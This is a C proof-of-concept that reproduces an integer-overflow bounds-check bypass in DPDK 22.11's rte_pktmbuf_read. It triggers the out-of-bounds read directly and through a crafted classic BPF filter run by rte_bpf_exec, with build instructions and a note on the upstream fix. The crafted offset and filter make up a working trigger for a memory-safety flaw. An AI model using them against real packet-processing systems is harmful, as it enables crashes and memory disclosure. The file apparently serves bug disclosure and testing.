/*
 * DPDK 22.11 rte_pktmbuf_read(): `off + len` is computed in 32 bits, so an offset near 2^32 passes
 * the bounds check and the load reads 4 GiB past the packet. A classic filter reaches it through
 * rte_bpf_exec with `ldx #0xfffffffe; ldh [x + 0]`. Fixed upstream by 45f1da4401 ("mbuf: fix packet
 * data read", 2026); not in 22.11.11. Build with DPDK (and the libpcap headers rte_bpf_convert needs):
 *   cc -O2 -o dpdk-mbuf-read-wrap dpdk-mbuf-read-wrap.c $(pkg-config --cflags --libs libdpdk) -lpcap
 *   ./dpdk-mbuf-read-wrap
 */
#define ALLOW_EXPERIMENTAL_API
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <pcap/pcap.h>
#include <rte_bpf.h>
#include <rte_eal.h>
#include <rte_errno.h>
#include <rte_mbuf.h>

static void on_segv(int sig)
{
	(void)sig;
	static const char msg[] = "SIGSEGV\n";
	write(1, msg, sizeof(msg) - 1);
	_exit(0);
}

int main(void)
{
	char *eal[] = { "repro", "--no-huge", "-m", "64", "--no-pci", "--no-shconf", "--log-level=lib.eal:error", "--no-telemetry" };
	if (rte_eal_init(8, eal) < 0)
		return 1;
	struct rte_mempool *pool = rte_pktmbuf_pool_create("repro", 63, 0, 0, RTE_MBUF_DEFAULT_BUF_SIZE, SOCKET_ID_ANY);
	struct rte_mbuf *m = rte_pktmbuf_alloc(pool);
	memset(rte_pktmbuf_append(m, 64), 0x5a, 64);
	/* the bug without BPF: */
	printf("rte_pktmbuf_read(m, 0xfffffffe, 2) on a 64-byte packet returns %p (data at %p): expected NULL\n",
	       rte_pktmbuf_read(m, 0xfffffffe, 2, NULL), rte_pktmbuf_mtod(m, void *));
	struct bpf_insn insns[] = {
		BPF_STMT(BPF_LDX | BPF_IMM, 0xfffffffe),
		BPF_STMT(BPF_LD | BPF_H | BPF_IND, 0),
		BPF_STMT(BPF_RET | BPF_A, 0),
	};
	struct bpf_program prog = { 3, insns };
	struct rte_bpf_prm *prm = rte_bpf_convert(&prog);
	struct rte_bpf *bpf = prm ? rte_bpf_load(prm) : NULL;
	if (bpf == NULL) {
		printf("load: %s\n", rte_strerror(rte_errno));
		return 1;
	}
	printf("ldx #0xfffffffe; ldh [x + 0]; ret a: rte_bpf_exec: ");
	fflush(stdout);
	signal(SIGSEGV, on_segv);
	printf("%llu\n", (unsigned long long)rte_bpf_exec(bpf, m));
	return 0;
}
